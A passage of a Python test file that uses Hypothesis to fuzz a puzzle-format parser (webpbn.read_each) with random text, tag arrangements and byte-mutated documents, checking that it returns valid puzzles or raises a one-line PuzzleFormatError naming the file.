    for _ in range(draw(st.integers(1, 4))):
        if not data:
            break
        at = draw(st.integers(0, len(data) - 1))
        action = draw(st.sampled_from(["flip", "delete", "insert", "duplicate", "cut"]))
        if action == "flip":
            data[at] = draw(st.integers(0, 255))
        elif action == "delete":
            del data[at:at + draw(st.integers(1, 20))]
        elif action == "insert":
            data[at:at] = draw(st.binary(min_size=1, max_size=10))
        elif action == "duplicate":
            data[at:at] = data[at:at + draw(st.integers(1, 60))]
        else:
            data = data[:at]
    return bytes(data).decode("utf-8", errors="surrogateescape")


class TestFuzz:
    """No input makes read_each raise anything but PuzzleFormatError."""

    @FUZZ
    @given(text=st.text(max_size=300))
    def test_random_text(self, text):
        """Random text is read or refused with PuzzleFormatError."""
        self.check(text)

    @FUZZ
    @given(text=st.lists(st.sampled_from(TOKENS), max_size=40).map("".join))
    def test_random_tokens(self, text):
        """Random arrangements of the format's own tags are read or refused with PuzzleFormatError."""
        self.check(text)

    @FUZZ
    @given(text=mutated())
    def test_mutated_bytes(self, text):
        """Valid documents with random byte edits (bad UTF-8 too) are read or refused with PuzzleFormatError."""
        self.check(text)

    @staticmethod
    def check(text):
        """Read; a puzzle must be consistent, anything else a one-line PuzzleFormatError naming the file."""
        try:
            each = webpbn.read_each(text, "fuzz.xml")
        except PuzzleFormatError as error:
            TestFuzz.check_error(error)
            return
        assert each
        for item in each:
            if isinstance(item, PuzzleFormatError):
                TestFuzz.check_error(item)
            else:
                assert isinstance(item, Puzzle)
                assert 1 <= item.width <= MAX_SIZE and 1 <= item.height <= MAX_SIZE

    @staticmethod
    def check_error(error):
        """The error names the fuzz file, a line from 1 if any, and is one line."""
        assert error.path == "fuzz.xml"
        assert error.line is None or error.line >= 1
        assert "\n" not in str(error)
